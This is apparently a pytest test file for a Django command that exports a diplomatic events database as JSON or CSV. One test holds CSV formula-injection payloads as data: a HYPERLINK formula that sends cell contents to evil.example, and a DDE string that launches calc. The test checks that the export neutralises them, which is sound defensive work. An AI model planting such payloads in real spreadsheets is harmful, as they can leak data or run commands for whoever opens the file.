"""manage.py export_events: the events table's filter, as JSON ({"events": [...]}) in the API's
schema or as the CSV download's rows; a filter it cannot read stops it, naming the errors."""

from __future__ import annotations

import csv
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from dashboard.exports import CSV_COLUMNS
from tests.bad_filters import BAD_FILTER_IDS, BAD_FILTERS
from tests.factories import make_actor, make_article, make_event

pytestmark = pytest.mark.django_db

EVENT_KEYS = {
    "id", "negotiation", "type", "status", "date", "date_precision", "end_date", "date_inferred",
    "location", "summary", "confidence", "review", "related_event", "actors", "sources", "plover",
    "cameo",
}  # fmt: skip


def export(*args: str) -> str:
    out = StringIO()
    call_command("export_events", *args, stdout=out)
    return out.getvalue()


def exported_ids(*args: str) -> list[int]:
    return [event["id"] for event in json.loads(export(*args))["events"]]


@pytest.fixture
def called_off() -> dict:
    """A trip and the cancellation three articles report, beside a sanction and a rejected
    meeting."""
    trump, pompeo = make_actor("Donald Trump"), make_actor("Mike Pompeo")
    articles = [make_article(f"Trump called off the trip ({n}).", outlet="Wire") for n in range(3)]
    trip = make_event("visit", "2018-08", status="cancelled", actors=[pompeo],
                      location="North Korea", sources=articles[:1])  # fmt: skip
    return {
        "trip": trip,
        "cancellation": make_event("cancellation", "2018-08-24", related_event=trip,
                                   actors=[(trump, "initiator"), pompeo], sources=articles),
        "sanction": make_event("sanction", "2018-08-22", sources=articles[:1]),
        "rejected": make_event("meeting", "2018-08-23", review="rejected"),
    }  # fmt: skip


def test_the_json_export_lists_every_visible_event_oldest_first_in_the_api_schema(called_off):
    data = json.loads(export("--format", "json"))
    assert set(data) == {"events"}
    assert [e["id"] for e in data["events"]] == [
        called_off[name].pk for name in ("trip", "sanction", "cancellation")
    ]
    assert all(set(event) == EVENT_KEYS for event in data["events"])
    assert [(e["date"], e["date_precision"]) for e in data["events"]] == [
        ("2018-08", "month"), ("2018-08-22", "day"), ("2018-08-24", "day"),
    ]  # fmt: skip


def test_one_event_lists_each_article_that_reports_it(called_off):
    [event] = json.loads(export("type=cancellation", "date_after=2018-08-24"))["events"]
    assert [source["title"] for source in event["sources"]] == ["", "", ""]
    assert {source["article"] for source in event["sources"]} == set(
        called_off["cancellation"].mentions.values_list("article", flat=True)
    )
    assert len(event["sources"]) == 3
    assert all(len(source["evidence"]) == 1 for source in event["sources"])
    assert event["actors"] == [
        {"name": "Donald Trump", "slug": "donald-trump", "role": "initiator"},
        {"name": "Mike Pompeo", "slug": "mike-pompeo", "role": "participant"},
    ]
    # A cancelled trip is CAMEO 161; cancelled talks would be 164.
    assert (event["related_event"], event["plover"], event["cameo"]) == (
        called_off["trip"].pk, "SANCTION", "161",
    )  # fmt: skip


def test_it_lists_what_the_api_lists(client, called_off):
    for query in ({"type": "visit"}, {"actor": "mike-pompeo"}, {"outlet": "Wire"}):
        api = client.get("/api/events", {**query, "_size": 1000}).json()
        arguments = [f"{key}={value}" for key, value in query.items()]
        assert sorted(exported_ids(*arguments)) == sorted(e["id"] for e in api["events"]), query
    assert exported_ids("actor=mike-pompeo") == [
        called_off["trip"].pk, called_off["cancellation"].pk,
    ]  # fmt: skip


def test_the_csv_export_holds_the_filtered_rows(called_off, tmp_path):
    target = tmp_path / "out.csv"
    call_command("export_events", "--format", "csv", "--output", str(target), "type=sanction")
    with target.open(encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert list(rows[0]) == CSV_COLUMNS
    assert [(row["id"], row["type"]) for row in rows] == [
        (str(called_off["sanction"].pk), "sanction")
    ]


def test_the_article_filter_exports_exactly_its_events(called_off):
    article = called_off["trip"].mentions.get().article
    assert exported_ids(f"article={article.pk}") == [
        called_off[name].pk for name in ("trip", "sanction", "cancellation")
    ]
    assert exported_ids(f"article={make_article().pk}") == []


@pytest.mark.parametrize(("query", "field", "message"), BAD_FILTERS, ids=BAD_FILTER_IDS)
def test_a_bad_filter_stops_it_naming_its_errors(query, field, message):
    arguments = [f"{key}={value}" for key, value in query.items()]
    with pytest.raises(CommandError) as refused:
        call_command("export_events", *arguments, stdout=StringIO())
    assert f"{field}: {message}" in str(refused.value)


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\rcmd"]  # fmt: skip


def test_csv_cells_that_would_start_a_formula_are_written_as_text(tmp_path):
    article = make_article(title="=cmd|' /C calc'!A0", outlet="@outlet", published=None,
                           url="https://example.org/f")  # fmt: skip
    events = [make_event("statement", f"2030-01-{n + 1:02}", summary=summary, location="-Pyongyang",
                         sources=[article]) for n, summary in enumerate(FORMULAS)]  # fmt: skip
    target = tmp_path / "out.csv"
    call_command("export_events", "--format", "csv", "-o", str(target))
    with target.open(encoding="utf-8", newline="") as stream:  # keep the \r inside a cell
        rows = {row["id"]: row for row in csv.DictReader(stream)}
    assert {rows[str(e.pk)]["summary"] for e in events} == {"'" + f for f in FORMULAS}
    assert {rows[str(e.pk)]["location"] for e in events} == {"'-Pyongyang"}
    assert {rows[str(e.pk)]["sources"] for e in events} == {
        f"[{article.pk}] @outlet: =cmd|' /C calc'!A0 <https://example.org/f>"
    }


def test_the_json_export_keeps_text_as_it_is():
    for n, summary in enumerate(FORMULAS):
        make_event("statement", f"2030-01-{n + 1:02}", summary=summary)
    data = json.loads(export("date_after=2030-01-01"))
    assert sorted(e["summary"] for e in data["events"]) == sorted(FORMULAS)


def test_each_source_carries_its_article_address_outlet_title_date_and_evidence(tmp_path):
    """The same sources as /api/events and /events.csv: one per article or cited page."""
    article = make_article("Pompeo met Kim. They talked for two days.", title="Talks",
                           outlet="The Hill", url="https://example.org/talks",
                           published="2018-07-08")  # fmt: skip
    said = [(article, "Pompeo met Kim."), (article, "They talked for two days.")]
    event = make_event("meeting", "2018-07-06", sources=said)
    event.references.create(url="https://example.org/cited", outlet="Wire", title="Cited")
    [exported] = json.loads(export())["events"]
    assert exported["sources"] == [
        {"article": article.pk, "url": "https://example.org/talks", "title": "Talks",
         "outlet": "The Hill", "published": "2018-07-08",
         "evidence": ["Pompeo met Kim.", "They talked for two days."]},
        {"article": None, "url": "https://example.org/cited", "title": "Cited", "outlet": "Wire",
         "published": None, "evidence": []},
    ]  # fmt: skip
    target = tmp_path / "out.csv"
    call_command("export_events", "--format", "csv", "-o", str(target))
    with target.open(encoding="utf-8", newline="") as stream:
        [row] = csv.DictReader(stream)
    assert row["sources"] == (
        f"[{article.pk}] The Hill: Talks (2018-07-08) <https://example.org/talks>; "
        "Wire: Cited <https://example.org/cited>"
    )
    assert row["evidence"] == (
        f"[{article.pk}] Pompeo met Kim.\n[{article.pk}] They talked for two days."
    )
